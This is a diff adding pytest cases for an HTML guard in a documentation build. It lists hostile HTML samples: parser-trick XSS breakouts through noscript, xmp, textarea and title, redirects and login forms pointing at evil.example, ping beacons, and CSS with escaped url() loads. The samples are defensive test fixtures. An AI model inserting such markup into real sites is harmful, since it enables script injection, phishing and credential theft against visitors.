@@ -145,3 +145,56 @@ def test_a_changed_policy_is_written_into_every_page_again(build_root):
         app = build_root("ext-html-guard", freshenv=False)
         page = (Path(app.outdir) / "index.html").read_text(encoding="utf-8")
         assert f'<meta http-equiv="Content-Security-Policy" content="{escape(policy)}">' in page
+
+
+# What a contributed template or translation could write, read as a browser
+# reads it (the red-team review of 2026-12-02): each must be found.
+HOSTILE_HTML = {
+    "noscript-hides-refresh": "<noscript><p title=\"</noscript><meta http-equiv=refresh content='0;url=https://evil.example/'>\"></noscript>",
+    "noscript-refresh-without-js": '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
+    "xmp-hides-handler": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+    "textarea-hides-script": '<textarea><p title="</textarea><script>alert(1)</script>"></textarea>',
+    "title-hides-handler": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
+    "end-tag-with-rest": "<style></style x><img src=x onerror=alert(1)>",
+    "plaintext": "<plaintext><p>the rest",
+    "form-action": '<form action="https://evil.example/login" method="post"><input name="p"></form>',
+    "button-formaction": '<form action=""><button formaction="https://evil.example/b">登录</button></form>',
+    "ping": '<a href="/" ping="https://evil.example/p">x</a>',
+    "imagesrcset": '<link rel="preload" as="image" imagesrcset="https://evil.example/a.png 1x">',
+    "svg-image": '<svg><image href="https://evil.example/a.png"/></svg>',
+    "svg-use": '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>',
+    "css-escaped-url": '<p style="background:\\75 rl(https://evil.example/a.png)">x</p>',
+    "css-image-set": '<style>p{background:image-set("https://evil.example/a.png" 1x)}</style>',
+    "meta-referrer": '<meta name="referrer" content="unsafe-url">',
+}
+# What the site itself writes, which must stay clean.
+BENIGN_HTML = {
+    "noscript-notice": '<noscript><div class="admonition error"><p>需要 JavaScript</p></div></noscript>',
+    "title": "<title>搜索 - 51 算力知识库</title><p>正文</p>",
+    "search-form": '<form class="sidebar-search-container" method="get" action="search.html" role="search"><input name="q"></form>',
+    "svg-data-url": "<p style=\"background:url('data:image/svg+xml;charset=utf-8,<svg xmlns=%22http://www.w3.org/2000/svg%22/>')\">x</p>",
+    "local-use": '<svg><use href="#icon-sun"/></svg>',
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_HTML))
+def test_what_browsers_read_differently_is_found(case):
+    assert guard.scan(HOSTILE_HTML[case])[0], case
+
+
+@pytest.mark.parametrize("case", sorted(BENIGN_HTML))
+def test_what_the_site_writes_passes(case):
+    assert guard.scan(BENIGN_HTML[case])[0] == []
+
+
+def test_a_stylesheet_hiding_urls_behind_escapes_or_image_set_is_found(tmp_path):
+    css = tmp_path / "x.css"
+    css.write_text(
+        "a { color: red }\n"
+        "b { background: \\75 rl(https://evil.example/1.png) }\n"
+        "c { background: image-set('https://evil.example/2.png' 1x) }\n"
+        "@font-face { src: \\75rl(//evil.example/f.woff) }\n"
+        "d { background: url('data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>') }\n",
+        encoding="utf-8",
+    )
+    assert [line for line, _what in guard.check_file(css, page=False)] == [2, 3, 4]
